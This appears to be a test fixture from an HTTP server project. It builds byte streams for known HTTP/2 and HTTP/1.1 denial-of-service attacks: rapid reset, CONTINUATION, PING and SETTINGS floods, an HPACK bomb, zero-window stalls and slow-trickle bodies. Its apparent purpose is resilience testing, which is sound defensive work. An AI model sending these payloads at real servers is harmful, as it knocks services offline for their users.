/** Attacks each as the octets of one connection: cheap to send, and meant to be dear to receive. */
import { PREFACE } from "../../../src/wire/http2/frames/frames.ts";
import { frame } from "./attacks.ts";

/** GET and POST http://orders.shop/ from the static table (RFC 7541 appendix A), and GET /large. */
const GET = Buffer.from("\x82\x86\x84\x01\x0borders.shop", "latin1");
const POST = Buffer.from("\x83\x86\x84\x01\x0borders.shop", "latin1");
const GET_LARGE = Buffer.from(
  "\x82\x86\x04\x06/large\x01\x0borders.shop",
  "latin1",
);
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] =
  [0, 1, 3, 4, 6, 8, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const LARGEST_WINDOW = Buffer.from([0x7f, 0xff, 0xff, 0xff]);
/** SETTINGS_INITIAL_WINDOW_SIZE of 0 (RFC 9113 6.5.2). */
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);

function connection(
  count: number,
  each: (index: number) => Buffer,
  first: Buffer = Buffer.alloc(0),
  settings: Buffer = Buffer.alloc(0),
): Buffer {
  return Buffer.concat([
    PREFACE,
    frame(SETTINGS, 0, 0, settings),
    first,
    ...Array.from({ length: count }, (_, index) => each(index)),
  ]);
}

/** "x: v…" of 600 octets into the table, and then a block that refers to it ninety times. */
const ENTRY = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 127, (473 & 127) | 128, 473 >> 7]),
  Buffer.alloc(600, 0x76),
]);
const BOMB = Buffer.concat([GET, Buffer.alloc(90, 0xbe)]);

/** By name; each makes what one connection sends. */
export const FLOODS: Readonly<Record<string, () => Buffer>> = {
  /** CVE-2023-44487 */
  "rapid-reset": () =>
    connection(10_000, (index) =>
      Buffer.concat([
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET),
        frame(RST_STREAM, 0, 2 * index + 1, CANCEL),
      ]),
    ),
  /** CVE-2025-8671, by what only the client itself can do wrong, and by what may be another's message. */
  "made-you-reset": () =>
    connection(600, (index) =>
      Buffer.concat([
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET),
        frame(WINDOW_UPDATE, 0, 2 * index + 1, LARGEST_WINDOW),
      ]),
    ),
  "wrong-length": () =>
    connection(600, (index) =>
      Buffer.concat([
        frame(
          HEADERS,
          END_HEADERS,
          2 * index + 1,
          Buffer.concat([POST, Buffer.from("\x0f\x0d\x011", "latin1")]),
        ),
        frame(DATA, 0, 2 * index + 1, Buffer.from("xy")),
      ]),
    ),
  /** CVE-2024-27316 */
  continuation: () =>
    connection(
      50_000,
      () => frame(CONTINUATION, 0, 1, Buffer.alloc(16, 0x40)),
      frame(HEADERS, END_STREAM, 1, GET),
    ),
  /** CVE-2019-9512 */
  ping: () => connection(50_000, () => frame(PING, 0, 0, Buffer.alloc(8))),
  /** CVE-2019-9515 */
  settings: () => connection(50_000, () => frame(SETTINGS, 0, 0)),
  /** Heads of 57 KB for 110 octets each (CVE-2016-6581, and within the limit of a list). */
  "hpack-bomb": () =>
    connection(
      900,
      (index) => frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 3, BOMB),
      frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([GET, ENTRY])),
    ),
  /** Responses that nobody takes (CVE-2019-9517). */
  "zero-window": () =>
    connection(
      900,
      (index) =>
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET_LARGE),
      undefined,
      NO_WINDOW,
    ),
};

/** What is sent first and then, again and again, every so many milliseconds. */
export interface Trickle {
  readonly first: Buffer;
  readonly then: Buffer;
  readonly every: number;
}

export const TRICKLES: Readonly<Record<string, () => Trickle>> = {
  "one-byte-frames": () => ({
    first: connection(0, () => GET, frame(HEADERS, END_HEADERS, 1, POST)),
    then: Buffer.concat(
      Array<Buffer>(200).fill(frame(DATA, 0, 1, Buffer.from("x"))),
    ),
    every: 100,
  }),
  "one-byte-chunks": () => ({
    first: Buffer.from(
      "POST / HTTP/1.1\r\nHost: orders.shop\r\nTransfer-Encoding: chunked\r\n\r\n",
    ),
    then: Buffer.from("1\r\nx\r\n".repeat(200)),
    every: 100,
  }),
  "slow-body": () => ({
    first: Buffer.from(
      "POST / HTTP/1.1\r\nHost: orders.shop\r\nContent-Length: 100000\r\n\r\n",
    ),
    then: Buffer.from("x"),
    every: 500,
  }),
};
